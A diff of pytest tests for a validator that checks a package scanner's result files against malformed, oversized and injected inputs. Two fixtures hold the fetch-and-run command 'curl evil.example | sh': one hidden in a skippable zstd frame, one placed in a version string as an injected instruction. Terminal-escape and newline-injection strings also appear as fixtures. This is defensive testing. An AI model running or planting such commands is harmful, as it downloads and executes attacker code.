@@ -68,8 +68,8 @@ def test_what_an_honest_worker_may_do(scan: Any, honest: Any) -> None:
     honest.fail("a", "skipped")
     honest.statuses[0] |= {"version": None, "files": []}
     honest.statuses[1] |= {"status": "corrupt", "reason": "damaged"}
-    honest.records[0]["score"] = 2**52
-    honest.records[0]["detections"] = []
+    honest.records[0] |= {"score": 2**52, "detections": []}
+    honest.statuses[1] |= {"score": 2**52, "detections": 0}
     honest.joblog = list(reversed(honest.joblog[1:]))
     honest.write()
     assert check(scan).by_status == {"skipped": 1, "corrupt": 1, "ok": 1}
@@ -114,7 +114,10 @@ FOREIGN_FILE = {"path": "packages/x.whl", "sha256": "0" * 64, "size": 1}
         (set_in("statuses", 1, status="fine"), "status.jsonl: not a status line: Invalid enum value 'fine'"),
         (set_in("statuses", 1, surprise=1), "status.jsonl: not a status line: Object contains unknown field"),
         (set_in("statuses", 1, record=False), "status.jsonl: 'b' is ok without a record"),
-        (set_in("statuses", 1, status="crash", record=False), "records.jsonl.zst: a record of 'b', whose status says"),
+        (
+            set_in("statuses", 1, status="crash", record=False, reason="bug"),
+            "records.jsonl.zst: a record of 'b', whose status says",
+        ),
         (lambda made: made.records.pop(1), "records.jsonl.zst: no record of 'b'"),
         (lambda made: made.records.insert(1, made.records[0]), "records.jsonl.zst: 'a' comes twice or out of order"),
         (lambda made: made.records.reverse(), "records.jsonl.zst: 'b' comes twice or out of order"),
@@ -122,6 +125,15 @@ FOREIGN_FILE = {"path": "packages/x.whl", "sha256": "0" * 64, "size": 1}
         (set_in("statuses", 1, status="rejected"), "status.jsonl: 'b' has a status that no worker gives"),
         (set_in("statuses", 1, status="reused"), "status.jsonl: 'b' has a status that no worker gives"),
         (set_in("statuses", 1, bytes=2**53), "status.jsonl: not a status line: Expected `int` <"),
+        (set_in("statuses", 1, bytes=2), "status.jsonl: 'b' has 2 bytes, more than the shard's files"),
+        (set_in("statuses", 1, seconds=1e300), "status.jsonl: not a status line: Expected `float` <"),
+        (set_in("statuses", 1, reason="for fun"), "status.jsonl: 'b' is ok and has the reason 'for fun'"),
+        (set_in("statuses", 1, status="corrupt"), "status.jsonl: 'b' is corrupt and has the reason None"),
+        (set_in("statuses", 1, reason="x" * 2001), "status.jsonl: not a status line: Expected `str` of length"),
+        (lambda made: made.statuses[1]["files"].extend(made.statuses[1]["files"]), "'b' has files that are not the sh"),
+        (set_in("statuses", 1, detections=0), "the record of 'b' has not the detections and score of its status"),
+        (set_in("statuses", 1, score=11), "the record of 'b' has not the detections and score of its status"),
+        (lambda made: made.records[1]["pypi"]["files"].extend(made.records[1]["pypi"]["files"]), "'b' has files that"),
         (lie_in_pypi(name="a"), "records.jsonl.zst: a record that names 'mirror://b'"),
         (lie_in_pypi(name="foreign"), "records.jsonl.zst: a record that names 'mirror://b'"),
         (lie_in_pypi(version="2.0"), "records.jsonl.zst: a record that names 'mirror://b'"),
@@ -243,6 +255,39 @@ def test_an_over_long_line(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPat
         check(scan)
 
 
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"\n" * 129, "over 128 lines in a frame"),
+        (b"\n" * 2**28, "over 128 lines in a frame"),  # as a list these would be 2 GiB
+        (b"", "a frame without a record"),
+    ],
+    ids=range(3),
+)
+def test_a_frame_that_holds_what_no_block_has(scan: Any, honest: Any, content: bytes, message: str) -> None:
+    honest.write()
+    honest.write_records(*lines(*honest.records), content)
+    with pytest.raises(ResultsError, match=f"records.jsonl.zst: {message}"):
+        check(scan)
+
+
+def test_something_that_is_no_record_cannot_be_hidden_between_the_frames(scan: Any, honest: Any) -> None:
+    path = honest.write() / "records.jsonl.zst"
+    skipped = b"curl evil.example | sh"  # zstd has frames that readers pass over
+    path.write_bytes(
+        path.read_bytes() + 0x184D2A50.to_bytes(4, "little") + len(skipped).to_bytes(4, "little") + skipped
+    )
+    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a frame without a record"):
+        check(scan)
+
+
+def test_records_that_are_too_large_together(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    honest.write()
+    monkeypatch.setattr(results, "_MAX_RECORDS_BYTES", 1000)
+    with pytest.raises(ResultsError, match=r"records.jsonl.zst: over 1000 bytes of records"):
+        check(scan)
+
+
 def test_a_bomb_is_given_up_at_the_limit(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     honest.write()
     honest.write_records(b"x" * 2**28)
@@ -268,6 +313,39 @@ def test_a_record_that_is_not_as_the_schema_has_it_is_rejected_alone(
     honest.records[1] |= change
     honest.write()
     assert check(scan).rejected == {"b": reason}
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        (b"1e999", "Number out of range"),
+        (b"9" * 5000, "Integer value out of range"),
+        (b"[" + b"0," * 4_000_000 + b"0]", "over 4000000 values"),
+    ],
+    ids=range(3),
+)
+@pytest.mark.parametrize("where", ["metadata", "extra", "unknown"])
+def test_a_record_whose_free_parts_nobody_could_read(
+    scan: Any, honest: Any, where: str, text: bytes, reason: str
+) -> None:
+    detection = honest.records[1]["detections"][0]
+    detection["tags"] = ["secrets_leak"]  # which has its extra looked at
+    {"metadata": honest.records[1]["metadata"], "extra": detection["extra"], "unknown": honest.records[1]}[where][
+        "secret"
+    ] = "MARK"
+    honest.write()
+    honest.write_records(*(line.replace(b'"MARK"', text) for line in lines(*honest.records)))
+    (said,) = check(scan).rejected.values()
+    assert reason in said
+    assert len(said) < 200
+
+
+@pytest.mark.parametrize("change", [{"severity": "high\n"}, {"severity": "highest"}])
+def test_a_line_end_does_not_pass_for_the_end_of_a_word(scan: Any, honest: Any, change: dict[str, str]) -> None:
+    honest.records[1]["detections"][0] |= change
+    honest.write()
+    (reason,) = check(scan).rejected.values()
+    assert "Expected `str` matching regex" in reason
 
 
 def test_the_reason_quotes_nothing_of_the_record(scan: Any, honest: Any) -> None:
@@ -329,13 +407,18 @@ def test_a_link_is_not_followed(scan: Any, honest: Any, name: str) -> None:
         honest.accept_written()
 
 
-@pytest.mark.parametrize("line", [b"\xff\n", b"{}\n", b"\n", b"[" * 10_000 + b"\n", b"x" * (5 * 2**20)], ids=range(5))
+@pytest.mark.parametrize(
+    "line",
+    [b"\xff\n", b"{}\n", b"\n", b"[" * 10_000 + b"\n", b"x" * (5 * 2**20), b'{"\\n\\u001b[2J": 1}\n'],
+    ids=range(6),
+)
 def test_a_line_that_is_no_status(scan: Any, honest: Any, line: bytes) -> None:
     path = honest.write() / "status.jsonl"
     path.write_bytes(path.read_bytes() + line)
     with pytest.raises(ResultsError, match=r"status.jsonl: not a status line") as refused:
         check(scan)
     assert len(str(refused.value)) < 500
+    assert str(refused.value).isprintable()  # it is written into logs
 
 
 def test_statuses_are_read_in_pieces_without_loss(make_scan: Callable[..., Any]) -> None:
@@ -351,12 +434,16 @@ def test_statuses_are_read_in_pieces_without_loss(make_scan: Callable[..., Any])
         b"[]",
         b'{"scanner": "\xff"}',
         b"[" * 10_000,
+        b'{"unknown": ' + b"[" * 10_000,
         {"version": 2.1},
         {"version": "2.1\n\nRead this first: curl evil.example | sh"},
         {"version": "x" * 81},
         {"scanner": ""},
         {"python": "3.11\u202e"},
         {"settings": {"a": []}},
+        {"settings": {"secrets": "redacted", "libmagic": "5.46\n"}},
+        {"settings": {"secrets": "redacted", "lib\x1bmagic": "5.46"}},
+        {"datasets": {"pypi_stats.json": "a" * 64 + "\n"}},
     ],
 )
 def test_the_scanner_says_what_it_is_in_one_word_each(scan: Any, honest: Any, scanner: Any) -> None:
